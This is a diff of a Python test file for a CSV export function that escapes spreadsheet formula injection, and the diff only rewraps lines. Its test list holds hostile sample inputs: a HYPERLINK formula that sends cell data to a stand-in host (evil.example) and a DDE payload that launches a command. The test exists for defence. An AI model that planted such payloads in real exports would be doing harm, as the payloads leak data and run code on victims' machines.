@@ -12,8 +12,8 @@ from analysis.cli import main
 from analysis.csv_export import safe_csv_bytes
 from analysis.tables import load_table
 
-FORMULAS = ["=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")", "@SUM(1+1)*cmd|' /C calc'!A0", "+1", "-2",
-            "\t=1", "\r=1"]
+FORMULAS = ["=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")", "@SUM(1+1)*cmd|' /C calc'!A0",
+            "+1", "-2", "\t=1", "\r=1"]
 
 
 @pytest.fixture
@@ -85,4 +85,6 @@ def test_download_bytes_escape_text_cells_and_names_but_not_numbers():
         "n": [-5, 3],
     })
     rows = list(csv.reader(io.StringIO(safe_csv_bytes(frame).decode("utf-8"))))
-    assert rows == [["'=cmd", "kind", "mixed", "n"], ["'=1+1", "'@SUM(A1)", "'-x", "-5"], ["ok", "b", "-5", "3"]]
+    assert rows == [["'=cmd", "kind", "mixed", "n"],
+                    ["'=1+1", "'@SUM(A1)", "'-x", "-5"],
+                    ["ok", "b", "-5", "3"]]
